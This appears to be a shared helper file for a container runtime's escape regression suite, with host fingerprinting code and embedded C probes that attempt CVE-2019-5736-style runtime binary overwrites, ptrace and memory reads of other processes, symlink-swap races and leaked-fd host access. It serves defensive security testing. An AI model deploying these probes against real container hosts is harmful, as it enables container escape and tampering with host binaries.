/**
 * Shared pieces of the container-escape regression suite: fingerprints of what an escape would
 * change on the host (file checksums, directory trees, the host mount table), the small static C
 * probes the attacks run inside the containers, and ways of starting tsrun with the fds and stdio
 * an attack needs.
 *
 * No test file here imports anything that could weaken tsrun: every "hole" a positive control
 * opens is opened through an ordinary bundle setting or CLI flag (a bind mount, a capability,
 * --preserve-fds), never through a runtime switch.
 */
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import * as crypto from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { test } from 'uvu';
import { CONSOLE_RECEIVER, REPO, Sandbox, sandboxTest, TSRUN, type Result, type SandboxBody } from '../helpers/tsrun';

export { REPO, Sandbox, TSRUN };
export type { Result };

/** Spawn options that run as a rootless sandbox's user (TSRUN_TEST_ROOTLESS=1), nothing otherwise. */
export function asSandboxUser(s: Sandbox): { uid?: number; gid?: number; env?: NodeJS.ProcessEnv } {
  return s.user ? s.spawnArgs([]).opts : {};
}

/** The error of a refused tsrun call, without warnings (rootless: the cgroup warning comes first). */
export function refusalText(stderr: string): string {
  const lines = stderr.split('\n').filter((l) => l.trim() && !/level=warning/.test(l));
  return lines.join(' ').replace(/^.*msg="?/s, '').trim();
}

/**
 * Registers a uvu test that gets a fresh Sandbox and always cleans it up, pass or fail (every
 * name: these never looked at TEST_GREP).
 */
export function withSandbox(t: typeof test, name: string, args: string[], body: SandboxBody) {
  sandboxTest(name, args, body, { prefix: 'sec', suite: t, everyName: true });
}

// ---------------------------------------------------------------------------------------------
// Host fingerprints

export function sha256(file: string): string {
  return crypto.createHash('sha256').update(fs.readFileSync(file)).digest('hex');
}

/**
 * The host files a CVE-2019-5736-style overwrite would target: the CLI's and the shim's
 * executables (Bun with the compiled CLI, bin/.tsrun-cli, and shim, bin/.containerd-shim-tsrun-v2)
 * and the Node binary (the engine of the tests, and of either with TSRUN_*_ENGINE=node), the front
 * door and bundles, the init binary and the N-API addon (real paths: an overwrite goes through
 * symlinks).
 */
export function runtimeFiles(): string[] {
  const files = [
    path.join(REPO, 'node_modules/node/bin/node'),
    path.join(REPO, 'bin/tsrun'),
    ...['bin/.tsrun-cli', 'bin/.containerd-shim-tsrun-v2', 'node_modules/@oven/bun-linux-x64/bin/bun'].map((f) => path.join(REPO, f)).filter((f) => fs.existsSync(f)),
    path.join(REPO, 'addon/init/tsrun-init'),
    ...fs.readdirSync(path.join(REPO, 'dist')).filter((f) => f.endsWith('.js')).map((f) => path.join(REPO, 'dist', f)),
    ...fs.readdirSync(path.join(REPO, 'build/Release')).filter((f) => f.endsWith('.node')).map((f) => path.join(REPO, 'build/Release', f)),
  ];
  return [...new Set(files.map((f) => fs.realpathSync(f)))];
}

export interface FilePrint {
  size: number;
  sha: string;
}

export function fingerprintFiles(files: string[]): Map<string, FilePrint> {
  return new Map(files.map((f) => [f, { size: fs.statSync(f).size, sha: sha256(f) }]));
}

/**
 * Files whose checksum changed since `before`. The probes only ever append (O_APPEND, never
 * O_TRUNC), so a breached file is repaired by truncating it back to its old size; that keeps the
 * checkout (and the node binary every other engineer uses) working after a failing run.
 */
export function changedFilesRepairing(before: Map<string, FilePrint>): string[] {
  const changed: string[] = [];
  for (const [file, print] of before) {
    if (sha256(file) === print.sha) continue;
    changed.push(file);
    try {
      if (fs.statSync(file).size > print.size) fs.truncateSync(file, print.size);
    } catch {}
    if (sha256(file) !== print.sha) changed.push(`${file} (NOT repaired: restore it from the build)`);
  }
  return changed;
}

/**
 * Everything about a directory tree an escape could change: entries, types, modes, owners,
 * symlink targets, file contents and directory mtimes (a mkdir + rmdir leaves no entry but moves
 * the mtime of the parent).
 */
export function treePrint(dir: string): string[] {
  const out: string[] = [];
  const walk = (p: string, rel: string) => {
    const st = fs.lstatSync(p);
    let what = `${rel} mode=${st.mode.toString(8)} uid=${st.uid} gid=${st.gid}`;
    if (st.isSymbolicLink()) what += ` -> ${fs.readlinkSync(p)}`;
    else if (st.isFile()) what += ` size=${st.size} sha=${sha256(p)}`;
    else if (st.isDirectory()) what += ` mtime=${st.mtimeMs}`;
    out.push(what);
    if (st.isDirectory()) for (const e of fs.readdirSync(p).sort()) walk(path.join(p, e), `${rel}/${e}`);
  };
  walk(dir, '.');
  return out;
}

/**
 * The host mount table as comparable lines (root, mount point, type, source, options: mount ids
 * change on every remount and mean nothing across snapshots).
 */
export function hostMounts(): string[] {
  return fs
    .readFileSync('/proc/self/mountinfo', 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((line) => {
      const [pre, post] = line.split(' - ');
      const f = pre.split(' ');
      const [fstype, source, superOpts] = post.split(' ');
      return `${f[4]} root=${f[3]} ${fstype} ${source} ${f[5]} ${superOpts}`;
    });
}

/**
 * Mount lines added or removed between two snapshots. Other engineers run containers, dockerd and
 * containerd on this machine at the same time: mounts under the temp dir that are not below one of
 * `ours` (the sandboxes of the test, where its sentinels live) and docker/containerd/netns state
 * are theirs and are not judged; every other change (/, /etc, /work, /proc, /sys, /dev ...) counts.
 */
export function mountChanges(before: string[], after: string[], ours: string[]): string[] {
  const tmp = os.tmpdir() + '/';
  const foreign = (l: string) => {
    const mp = l.split(' ')[0];
    if (ours.some((o) => mp === o || mp.startsWith(o + '/'))) return false;
    return mp.startsWith(tmp) || /\/(docker|containerd|netns)(\/|$)/.test(mp);
  };
  const b = new Set(before);
  const a = new Set(after);
  return [...after.filter((l) => !b.has(l)).map((l) => `+ ${l}`), ...before.filter((l) => !a.has(l)).map((l) => `- ${l}`)].filter(
    (l) => !foreign(l.slice(2)),
  );
}

// ---------------------------------------------------------------------------------------------
// Static C probes (busybox has no strace, no ptrace, no renameat2)

const PROBE_DIR = path.join(REPO, 'test/.fixtures/escape-probes');

/** Compiles `source` with cc -static once per source text; returns the binary's host path. */
export function compileProbe(name: string, source: string): string {
  const hash = crypto.createHash('sha256').update(source).digest('hex').slice(0, 12);
  const bin = path.join(PROBE_DIR, `${name}-${hash}`);
  if (fs.existsSync(bin)) return bin;
  fs.mkdirSync(PROBE_DIR, { recursive: true });
  const src = path.join(PROBE_DIR, `${name}-${hash}.${process.pid}.c`);
  fs.writeFileSync(src, source);
  try {
    execFileSync('cc', ['-static', '-O2', '-Wall', '-o', `${bin}.${process.pid}`, src], { stdio: ['ignore', 'pipe', 'pipe'] });
    fs.renameSync(`${bin}.${process.pid}`, bin);
  } finally {
    fs.rmSync(src, { force: true });
  }
  return bin;
}

/** Copies a compiled probe into the sandbox's rootfs as /<name>; returns its container path. */
export function installProbe(s: Sandbox, name: string, source: string): string {
  const dest = path.join(s.bundle, 'rootfs', name);
  fs.copyFileSync(compileProbe(name, source), dest);
  fs.chmodSync(dest, 0o755);
  return `/${name}`;
}

/**
 * CVE-2019-5736 probe. For `seconds`, over every pid it can see: tries to open /proc/<pid>/exe
 * for writing directly, and keeps an O_PATH fd on it to re-open through /proc/self/fd/<n> once the
 * process has exited (ETXTBSY no longer applies then) — the real exploit's trick. Any successful
 * write-open appends a marker line (O_APPEND only: the host side can cut it off again) and is
 * reported as "BREACH <how> <pid> <target>". Extra arguments are paths to target the same way
 * (unused by the attack; there for debugging).
 */
export const EXE_PROBE = String.raw`
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAXH 2048
struct held { int fd; int pid; char target[256]; };
static struct held h[MAXH];
static int nh;
static const char mark[] = "\n// tsrun-security-probe\n";

/* Keyed by pid and exe: an exec'd process is first seen as tsrun-init, then as its program. */
static int seen(int pid, const char *target) {
  for (int i = 0; i < nh; i++) if (h[i].pid == pid && !strcmp(h[i].target, target)) return 1;
  return 0;
}

static void try_write(int fd, const char *how, int pid, const char *target) {
  if (fd < 0) return;
  ssize_t w = write(fd, mark, sizeof mark - 1);
  printf("%s %s %d %s (write %zd errno %d)\n", w > 0 ? "BREACH" : "OPENED-W", how, pid, target, w, w < 0 ? errno : 0);
  fflush(stdout);
  close(fd);
}

int main(int argc, char **argv) {
  double secs = argc > 1 ? atof(argv[1]) : 10;
  struct timespec t0, t;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  long scans = 0, opened = 0;
  int self = getpid();
  printf("probe pid %d\n", self); fflush(stdout);
  for (;;) {
    clock_gettime(CLOCK_MONOTONIC, &t);
    if ((t.tv_sec - t0.tv_sec) + (t.tv_nsec - t0.tv_nsec) / 1e9 > secs) break;
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == self) continue;
      char p[64], target[256] = "";
      snprintf(p, sizeof p, "/proc/%d/exe", pid);
      ssize_t n = readlink(p, target, sizeof target - 1);
      if (n > 0) target[n] = 0;
      try_write(open(p, O_WRONLY | O_APPEND | O_CLOEXEC), "direct", pid, target);
      if (!seen(pid, target) && nh < MAXH) {
        int fd = open(p, O_PATH | O_CLOEXEC);
        if (fd >= 0) { h[nh].fd = fd; h[nh].pid = pid; strcpy(h[nh].target, target); nh++; opened++; }
      }
    }
    if (d) closedir(d);
    for (int i = 0; i < nh; i++) {
      if (h[i].fd < 0) continue;
      char p[64];
      snprintf(p, sizeof p, "/proc/self/fd/%d", h[i].fd);
      int fd = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
      if (fd >= 0) { try_write(fd, "reopen", h[i].pid, h[i].target); close(h[i].fd); h[i].fd = -1; }
    }
    for (int i = 2; i < argc; i++) try_write(open(argv[i], O_WRONLY | O_APPEND | O_CLOEXEC), "path", 0, argv[i]);
    scans++;
    usleep(200);
  }
  printf("done scans=%ld exe-handles=%ld\n", scans, opened);
  return 0;
}
`;

/**
 * ptrace probe: for `seconds`, against every other pid it can see, tries to attach (PTRACE_SEIZE,
 * then detaches), process_vm_readv of the first mapped page, and open(/proc/<pid>/mem). Each success is
 * printed as "<WHAT> <pid> exe=<exe> comm=<comm>"; the exe is read while the target is stopped
 * (attach) so a tsrun-init image (memfd or host file) can be told from a process that has already
 * exec'd its program. "denied" lines count the refusals (so the test knows targets were seen).
 */
export const PTRACE_PROBE = String.raw`
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void exe_of(int pid, char *buf, size_t len) {
  char p[64]; snprintf(p, sizeof p, "/proc/%d/exe", pid);
  ssize_t n = readlink(p, buf, len - 1);
  if (n < 0) snprintf(buf, len, "?(errno %d)", errno); else buf[n] = 0;
}
static void comm_of(int pid, char *buf, size_t len) {
  char p[64]; snprintf(p, sizeof p, "/proc/%d/comm", pid);
  buf[0] = 0; FILE *f = fopen(p, "r");
  if (f) { if (fgets(buf, len, f)) buf[strcspn(buf, "\n")] = 0; fclose(f); }
}
static unsigned long first_map(int pid) {
  char p[64]; snprintf(p, sizeof p, "/proc/%d/maps", pid);
  FILE *f = fopen(p, "r"); unsigned long a = 0x400000;
  if (f) { if (fscanf(f, "%lx", &a) != 1) a = 0x400000; fclose(f); }
  return a;
}

/* Each (pid, exe, kind) success is reported once and not retried: attaching over and over would
   keep the target stopped. Refusals are retried (a window may open later). */
#define MAXR 4096
static struct { int pid; char kind; char exe[64]; } rep[MAXR];
static int nrep;
static int reported(int pid, char kind, const char *exe) {
  for (int i = 0; i < nrep; i++) if (rep[i].pid == pid && rep[i].kind == kind && !strncmp(rep[i].exe, exe, 63)) return 1;
  if (nrep < MAXR) { rep[nrep].pid = pid; rep[nrep].kind = kind; strncpy(rep[nrep].exe, exe, 63); nrep++; }
  return 0;
}

int main(int argc, char **argv) {
  double secs = argc > 1 ? atof(argv[1]) : 5;
  int self = getpid();
  long denied = 0, tries = 0;
  struct timespec t0, t;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  printf("probe pid %d\n", self); fflush(stdout);
  do {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == self) continue;
      char exe[256], comm[64];
      tries++;
      exe_of(pid, exe, sizeof exe);
      int done_a = 0, done_v = 0, done_m = 0;
      for (int i = 0; i < nrep; i++) if (rep[i].pid == pid && !strncmp(rep[i].exe, exe, 63)) {
        done_a |= rep[i].kind == 'A'; done_v |= rep[i].kind == 'V'; done_m |= rep[i].kind == 'M';
      }
      if (done_a && done_v && done_m) continue;
      /* PTRACE_SEIZE makes the same permission check as PTRACE_ATTACH (PTRACE_MODE_ATTACH) but
         sends no SIGSTOP: a stop left pending by an attach that raced an execve would leave the
         target group-stopped after we detach. PTRACE_INTERRUPT stops it so its exe is stable. */
      if (!done_a && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        int st, w = 0;
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        for (int i = 0; i < 1000 && (w = waitpid(pid, &st, __WALL | WNOHANG)) == 0; i++) usleep(1000);
        exe_of(pid, exe, sizeof exe); comm_of(pid, comm, sizeof comm);
        if (!reported(pid, 'A', exe)) { printf("ATTACH %d exe=%s comm=%s%s\n", pid, exe, comm, w > 0 ? "" : " (no stop)"); fflush(stdout); }
        ptrace(PTRACE_DETACH, pid, 0, 0);
      } else if (!done_a && (errno == EPERM || errno == EACCES)) denied++;
      char buf[16];
      struct iovec l = { buf, sizeof buf }, r = { (void *)first_map(pid), sizeof buf };
      if (!done_v && process_vm_readv(pid, &l, 1, &r, 1, 0) > 0) {
        exe_of(pid, exe, sizeof exe); comm_of(pid, comm, sizeof comm);
        if (!reported(pid, 'V', exe)) { printf("VMREAD %d exe=%s comm=%s\n", pid, exe, comm); fflush(stdout); }
      } else if (!done_v && (errno == EPERM || errno == EACCES)) denied++;
      char p[64]; snprintf(p, sizeof p, "/proc/%d/mem", pid);
      int fd = done_m ? -1 : open(p, O_RDONLY | O_CLOEXEC);
      if (fd >= 0) {
        exe_of(pid, exe, sizeof exe); comm_of(pid, comm, sizeof comm);
        if (!reported(pid, 'M', exe)) { printf("MEM %d exe=%s comm=%s\n", pid, exe, comm); fflush(stdout); }
        close(fd);
      } else if (!done_m && (errno == EPERM || errno == EACCES)) denied++;
    }
    if (d) closedir(d);
    usleep(100);
    clock_gettime(CLOCK_MONOTONIC, &t);
  } while ((t.tv_sec - t0.tv_sec) + (t.tv_nsec - t0.tv_nsec) / 1e9 < secs);
  printf("done tries=%ld denied=%ld\n", tries, denied);
  return 0;
}
`;

/**
 * Symlink-exchange probe (CVE-2021-30465 shape): for `seconds`, atomically swaps the names
 * `a` and `b` (renameat2 RENAME_EXCHANGE) in a tight loop, so that a path through `a` is a real
 * directory one instant and a symlink the next.
 */
export const SWAP_PROBE = String.raw`
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <stdio.h>
#include <time.h>
#include <unistd.h>
#include <sys/syscall.h>
#include <linux/fs.h>

int main(int argc, char **argv) {
  if (argc < 4) return 2;
  double secs = atof(argv[1]);
  struct timespec t0, t;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  long swaps = 0, fails = 0;
  printf("swapping\n"); fflush(stdout);
  for (;;) {
    for (int i = 0; i < 1000; i++) {
      if (syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE) == 0) swaps++; else fails++;
    }
    clock_gettime(CLOCK_MONOTONIC, &t);
    if ((t.tv_sec - t0.tv_sec) + (t.tv_nsec - t0.tv_nsec) / 1e9 > secs) break;
  }
  printf("done swaps=%ld fails=%ld\n", swaps, fails);
  return 0;
}
`;

// ---------------------------------------------------------------------------------------------
// Starting tsrun the way the attacks need

/**
 * Runs tsrun through a shell that first opens `fdSetup` (e.g. `7</ 8</sys/fs/cgroup`) without
 * close-on-exec, as a careless caller would: tsrun inherits those fds (CVE-2024-21626 shape).
 */
export function tsrunWithFds(s: Sandbox, fdSetup: string, args: string[], timeout = 30_000): Result {
  const r = spawnSync('sh', ['-c', `exec ${fdSetup}; exec "$@"`, 'sh', TSRUN, ...s.spawnArgs(args).argv], {
    encoding: 'utf8',
    cwd: s.dir,
    ...asSandboxUser(s),
    timeout,
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  if (r.error) throw r.error;
  return { status: r.status, signal: r.signal, stdout: r.stdout, stderr: r.stderr };
}

/**
 * `create` (or `run -d`) with the container's stdio on files: a created init keeps the stdio it
 * was given until it exits, so pipes would keep spawnSync waiting. Returns the result with the
 * command's own output; the container's output goes to `<dir>/<id>.out`.
 */
export function tsrunDetached(s: Sandbox, args: string[], fdSetup = '', id = s.id): Result & { out: string } {
  const out = path.join(s.dir, `${id}.out`);
  const r = spawnSync('sh', ['-c', `exec ${fdSetup} </dev/null >>"$0" 2>&1; exec "$@"`, out, TSRUN, ...s.spawnArgs(args).argv], {
    encoding: 'utf8',
    cwd: s.dir,
    ...asSandboxUser(s),
    timeout: 30_000,
  });
  if (r.error) throw r.error;
  return { status: r.status, signal: r.signal, stdout: '', stderr: fs.existsSync(out) ? fs.readFileSync(out, 'utf8') : '', out };
}

/**
 * Starts `a` detached as a race's attacker: SWAP_PROBE installed as /swap, the host directory
 * `source` bound read-write at `destination`, the container running `args`; returns once it runs,
 * with tsrunDetached's result (`out`: the file the swappers write to).
 */
export async function startSwapper(a: Sandbox, source: string, destination: string, args: string[]): Promise<Result & { out: string }> {
  installProbe(a, 'swap', SWAP_PROBE);
  a.config.mounts.push({ destination, type: 'bind', source, options: ['rbind', 'rw'] });
  a.config.process.args = args;
  a.writeConfig();
  const r = tsrunDetached(a, ['run', '-d', '-b', a.bundle, a.id]);
  if (r.status !== 0) throw new Error(`the swapper did not start (exit ${r.status}): ${r.stderr}`);
  await waitStatus(a, 'running');
  return r;
}

/** Writes a runtime-spec Process file (the container's process with `args` and `change`); returns its path. */
export function processFile(s: Sandbox, args: string[], change: (p: any) => void = () => {}): string {
  const p = structuredClone(s.config.process);
  p.args = args;
  change(p);
  const file = path.join(s.dir, `process-${crypto.randomUUID()}.json`);
  fs.writeFileSync(file, JSON.stringify(p));
  return file;
}

/** Async tsrun invocation with stdio on pipes (for exec loops running next to other work). */
export function tsrunAsync(s: Sandbox, args: string[], timeout = 30_000): Promise<Result> {
  return new Promise((resolve, reject) => {
    const child = spawn(TSRUN, s.spawnArgs(args).argv, { cwd: s.dir, ...asSandboxUser(s), stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => (stdout += d));
    child.stderr.on('data', (d) => (stderr += d));
    const timer = setTimeout(() => child.kill('SIGKILL'), timeout);
    child.on('error', reject);
    child.on('close', (status, signal) => {
      clearTimeout(timer);
      resolve({ status, signal, stdout, stderr });
    });
  });
}

/** Docker's default capability set: what an ordinary container's root has (no SYS_PTRACE, no SYS_ADMIN). */
export const DOCKER_CAPS = [
  'CAP_CHOWN', 'CAP_DAC_OVERRIDE', 'CAP_FSETID', 'CAP_FOWNER', 'CAP_MKNOD', 'CAP_NET_RAW', 'CAP_SETGID', 'CAP_SETUID',
  'CAP_SETFCAP', 'CAP_SETPCAP', 'CAP_NET_BIND_SERVICE', 'CAP_SYS_CHROOT', 'CAP_KILL', 'CAP_AUDIT_WRITE',
];

export function setCaps(p: any, caps: string[], inheritable: string[] = []): void {
  p.capabilities = { bounding: caps, effective: caps, permitted: caps, ambient: [], inheritable };
}

/** Polls the sandbox's container state until `status` (created/running/stopped). */
export async function waitStatus(s: Sandbox, status: string, id = s.id, timeoutMs = 10_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const r = s.tsrun(['state', id]);
    if (r.status === 0 && JSON.parse(r.stdout).status === status) return;
    if (Date.now() > deadline) throw new Error(`container ${id} never reached ${status}: ${r.stdout}${r.stderr}`);
    await new Promise((res) => setTimeout(res, 50));
  }
}

/**
 * `run -d --console-socket` with a receiver (python3's socket.recv_fds) that takes the pty master
 * and prints what the container writes on it once the container has exited.
 */
export function runWithConsole(s: Sandbox, id = s.id): Result {
  const sock = path.join(s.dir, `${id}.console.sock`);
  const r = spawnSync('python3', ['-c', CONSOLE_RECEIVER, sock, TSRUN, ...s.spawnArgs(['run', '-d', '--console-socket', sock, '-b', s.bundle, id]).argv], {
    encoding: 'utf8',
    timeout: 30_000,
    cwd: s.dir,
    ...asSandboxUser(s),
  });
  if (r.error) throw r.error;
  // Only what the container wrote: the receiver's own first line goes.
  return { status: r.status, signal: r.signal, stdout: r.stdout.replace(/^fds .*\n/, ''), stderr: r.stderr };
}

export function readOut(file: string): string {
  return fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '';
}

// ---------------------------------------------------------------------------------------------
// Namespace paths, host fds of the init, host-side sockets (namespace-paths, host-fds, sockets)

/** The runtime under test is runc (RUNTIME=/usr/sbin/runc): where its contract differs, tests say so (printed) and relax or skip that part. */
export const IS_RUNC = path.basename(TSRUN) === 'runc';

/**
 * Runs tsrun through bash (dash cannot open fds above 9) after opening `fdSetup` without
 * close-on-exec (e.g. `7</ 100</proc 300</`), optionally under `wrap` (e.g. `unshare --mount --`).
 * With `out`, stdin is /dev/null and stdout/stderr are appended to that file (what `create` or
 * `run -d` needs: the container inherits them); otherwise they are pipes.
 */
export function tsrunBash(
  s: Sandbox,
  fdSetup: string,
  args: string[],
  opts: { out?: string; wrap?: string[]; timeout?: number } = {},
): Result {
  const cmd = [...(opts.wrap ?? []), TSRUN, ...s.spawnArgs(args).argv];
  const script = opts.out ? `exec ${fdSetup} </dev/null >>"$0" 2>&1; exec "$@"` : `exec ${fdSetup}; exec "$@"`;
  const r = spawnSync('bash', ['-c', script, opts.out ?? 'bash', ...cmd], {
    encoding: 'utf8',
    cwd: s.dir,
    ...asSandboxUser(s),
    timeout: opts.timeout ?? 30_000,
    stdio: opts.out ? 'ignore' : ['ignore', 'pipe', 'pipe'],
  });
  if (r.error) throw r.error;
  if (opts.out) return { status: r.status, signal: r.signal, stdout: '', stderr: readOut(opts.out) };
  return { status: r.status, signal: r.signal, stdout: r.stdout, stderr: r.stderr };
}

export interface FdEntry {
  fd: number;
  link: string;
  /** dir, file, fifo, socket, chr, blk, link or other (anon inodes, pipes: what stat says). */
  kind: string;
  dev: number;
  ino: number;
}

/** The fd table of a host process: readlink and stat (through the magic link) of every entry. */
export function fdTable(pid: number): FdEntry[] {
  const out: FdEntry[] = [];
  for (const name of fs.readdirSync(`/proc/${pid}/fd`)) {
    const p = `/proc/${pid}/fd/${name}`;
    let link = '?';
    try {
      link = fs.readlinkSync(p);
    } catch {}
    let kind = 'gone';
    let dev = -1;
    let ino = -1;
    try {
      const st = fs.statSync(p);
      kind = st.isDirectory() ? 'dir' : st.isFile() ? 'file' : st.isFIFO() ? 'fifo' : st.isSocket() ? 'socket' : st.isCharacterDevice() ? 'chr' : st.isBlockDevice() ? 'blk' : 'other';
      dev = st.dev;
      ino = st.ino;
    } catch {}
    out.push({ fd: Number(name), link, kind, dev, ino });
  }
  return out.sort((a, b) => a.fd - b.fd);
}

export function showFds(fds: FdEntry[]): string {
  return fds.map((f) => `${f.fd} -> ${f.link} (${f.kind})`).join(', ');
}

/**
 * A host process (sleep) carrying a random sentinel in its environment: only reachable through
 * the host's /proc (the container's pid namespace does not show it).
 */
export function hostSentinel(s?: Sandbox): { pid: number; sentinel: string; kill: () => void } {
  const sentinel = `hostsentinel-${crypto.randomUUID()}`;
  // Rootless: a process of the sandbox's user, which is what a breach of its runtime would reach.
  const as = s?.user ? { uid: s.user.uid, gid: s.user.gid } : {};
  const child = spawn('sleep', ['120'], { env: { PATH: process.env.PATH, TSRUN_HOST_SENTINEL: sentinel }, stdio: 'ignore', ...as });
  return { pid: child.pid!, sentinel, kill: () => void child.kill('SIGKILL') };
}

/**
 * Bind-mounts the namespace file `source` (e.g. /proc/<pid>/ns/ipc) onto a plain file outside
 * every sandbox (Sandbox.leftovers() counts mounts below the sandbox dir): a bind-mounted namespace
 * is not a symlink, so only ioctl(NS_GET_NSTYPE) tells its type. release() unmounts and removes it.
 */
export function nsBind(source: string, name: string): { path: string; release: () => void } {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tsrun-nsbind-'));
  const file = path.join(dir, name);
  fs.writeFileSync(file, '');
  execFileSync('mount', ['--bind', source, file]);
  return {
    path: file,
    release: () => {
      spawnSync('umount', [file]);
      if (!fs.readFileSync('/proc/self/mountinfo', 'utf8').includes(dir)) fs.rmSync(dir, { recursive: true, force: true });
    },
  };
}

/** Is `file` (a bind-mounted namespace) still mounted somewhere in the host's mount table? */
export function stillMounted(file: string): boolean {
  return fs.readFileSync('/proc/self/mountinfo', 'utf8').split('\n').some((l) => l.split(' ')[4] === file);
}

/**
 * Host-fd probe: `fdprobe <seconds> <sentinel> <pid|0> <rel>...`. For every fd N of the target
 * (pid 0: every pid it can see but its own, over and over for `seconds`) it prints
 * "FD <pid> <N> <link> exe=..." once, and opens /proc/<pid>/fd/<N>/<rel> for each rel: content
 * containing the sentinel is a "BREACH <pid> <N> <link> <rel> exe=...". Processes that are not a
 * program of the busybox rootfs (/bin/...) nor the probe, i.e. still the runtime's image
 * (memfd:tsrun-init; runc, seen as "/"), are reported once as "RUNTIME <pid> <exe>"; processes
 * whose exe link it may not even read (EACCES: not dumpable, and the probe has no CAP_SYS_PTRACE
 * over their mm, as a rootless container's probe over stage 0's children) once as "HIDDEN <pid>".
 */
export const FD_PROBE = String.raw`
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

/* fdprobe <seconds> <sentinel> <pid, or 0 for every pid but our own> <rel>...
 * For every fd N of the target process(es): prints "FD <pid> <N> <link>" (first sighting), and
 * for each rel opens /proc/<pid>/fd/<N>/<rel> and reports "BREACH <pid> <N> <link> <rel>" when
 * what it reads contains the sentinel. Processes still running the runtime's image (anything but
 * /bin/... and the probe) are reported once as "RUNTIME <pid> <exe>". Ends with "done ...". */
#define MAXS 8192
static struct { int pid, fd; char link[200]; } seen[MAXS];
static int nseen;
static int rt_pids[MAXS], nrt;
static int hidden_pids[MAXS], nhidden;

static int seen_before(int pid, int fd, const char *link) {
  for (int i = 0; i < nseen; i++) if (seen[i].pid == pid && seen[i].fd == fd && !strcmp(seen[i].link, link)) return 1;
  if (nseen < MAXS) { seen[nseen].pid = pid; seen[nseen].fd = fd; snprintf(seen[nseen].link, sizeof seen[nseen].link, "%s", link); nseen++; }
  return 0;
}

static char buf[1 << 16];
static long breaches, opened_fds, pids_seen;

static void probe_pid(int pid, const char *sentinel, char **rels, int nrels) {
  char p[512], exe[256] = "?";
  snprintf(p, sizeof p, "/proc/%d/exe", pid);
  ssize_t el = readlink(p, exe, sizeof exe - 1);
  if (el >= 0) exe[el] = 0; else snprintf(exe, sizeof exe, "?%d", errno);
  if (el < 0 && errno == EACCES) {
    int known = 0;
    for (int i = 0; i < nhidden; i++) if (hidden_pids[i] == pid) known = 1;
    if (!known && nhidden < MAXS) { hidden_pids[nhidden++] = pid; printf("HIDDEN %d\n", pid); fflush(stdout); }
  }
  /* Not a program of the busybox rootfs, not the probe: the runtime's own image (memfd:tsrun-init;
     runc's binary, which the container sees as "/": a host file outside its root). */
  if (exe[0] != '?' && strncmp(exe, "/bin/", 5) && !strstr(exe, "fdprobe")) {
    int known = 0;
    for (int i = 0; i < nrt; i++) if (rt_pids[i] == pid) known = 1;
    if (!known && nrt < MAXS) { rt_pids[nrt++] = pid; printf("RUNTIME %d %s\n", pid, exe); fflush(stdout); }
  }
  snprintf(p, sizeof p, "/proc/%d/fd", pid);
  DIR *d = opendir(p);
  if (!d) return;
  pids_seen++;
  struct dirent *e;
  while ((e = readdir(d))) {
    if (e->d_name[0] == '.') continue;
    int n = atoi(e->d_name);
    char lp[512], link[200];
    snprintf(lp, sizeof lp, "/proc/%d/fd/%d", pid, n);
    ssize_t ll = readlink(lp, link, sizeof link - 1);
    if (ll < 0) continue;
    link[ll] = 0;
    opened_fds++;
    if (!seen_before(pid, n, link)) { printf("FD %d %d %s exe=%s\n", pid, n, link, exe); fflush(stdout); }
    for (int r = 0; r < nrels; r++) {
      snprintf(p, sizeof p, "/proc/%d/fd/%d/%s", pid, n, rels[r]);
      int fd = open(p, O_RDONLY | O_NONBLOCK | O_CLOEXEC | O_NOCTTY);
      if (fd < 0) continue;
      ssize_t got = read(fd, buf, sizeof buf - 1);
      close(fd);
      if (got > 0 && memmem(buf, got, sentinel, strlen(sentinel))) {
        breaches++;
        printf("BREACH %d %d %s %s exe=%s\n", pid, n, link, rels[r], exe); fflush(stdout);
      }
    }
  }
  closedir(d);
}

int main(int argc, char **argv) {
  if (argc < 5) return 2;
  double secs = atof(argv[1]);
  const char *sentinel = argv[2];
  int target = atoi(argv[3]), self = getpid();
  struct timespec t0, t;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  long rounds = 0;
  do {
    rounds++;
    if (target > 0) {
      probe_pid(target, sentinel, argv + 4, argc - 4);
    } else {
      DIR *d = opendir("/proc");
      struct dirent *e;
      while (d && (e = readdir(d))) {
        int pid = atoi(e->d_name);
        if (pid > 0 && pid != self) probe_pid(pid, sentinel, argv + 4, argc - 4);
      }
      if (d) closedir(d);
    }
    usleep(200);
    clock_gettime(CLOCK_MONOTONIC, &t);
  } while ((t.tv_sec - t0.tv_sec) + (t.tv_nsec - t0.tv_nsec) / 1e9 < secs);
  printf("done rounds=%ld pids=%ld fds=%ld runtime=%d breaches=%ld\n", rounds, pids_seen, opened_fds, nrt, breaches);
  return 0;
}
`;

/**
